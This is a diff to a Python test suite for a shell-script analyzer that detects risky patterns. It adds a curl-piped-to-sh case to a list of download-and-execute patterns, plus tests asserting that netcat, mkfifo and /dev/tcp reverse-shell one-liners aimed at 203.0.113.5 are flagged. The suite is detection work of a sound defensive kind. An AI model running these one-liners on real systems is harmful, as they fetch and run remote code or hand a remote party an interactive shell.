@@ -42,6 +42,7 @@ def fixture(name: str) -> list[Finding]:
         (f"wget -O- {URL} | sudo bash", "bash"),
         (f"curl -s {URL} | bash -s -- --yes", "bash"),
         (f"curl {URL} | python3 -", "python3"),
+        (f"curl -s {URL} | sh 2>&1 | tee install.log", "sh"),  # the grammar nests this one
         (f"iwr {URL} | iex", "iex"),
         (f'powershell -NoP -c "iwr {URL} | iex"', "iex"),
         (f"bash <(curl -s {URL})", "bash"),
@@ -148,6 +149,24 @@ def test_plain_curl_get_is_not_a_sink_but_fail_flag_is_not_a_form() -> None:
 def test_reverse_shell_over_dev_tcp() -> None:
     found = analyze_shell("x=1\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "r.sh")
     assert one(found, "reverseShell").line == 2
+    assert one(found, SIGNAL_SINK).props["kind"] == "network"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "nc 203.0.113.5 4444 -e /bin/bash",
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
+        'wget -q "http://203.0.113.5/?h=$(cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 9 > /tmp/f)"',
+    ],
+)
+def test_shell_wired_to_netcat_is_a_reverse_shell(script: str) -> None:
+    assert one(analyze_shell(script, "package.json", 5), "reverseShell").line == 6
+
+
+def test_netcat_without_a_shell_is_only_network() -> None:
+    found = analyze_shell("echo ping | nc -w 1 203.0.113.5 80", "x.sh")
+    assert of_type(found, "reverseShell") == []
     assert one(found, SIGNAL_SINK).props["kind"] == "network"
 
 
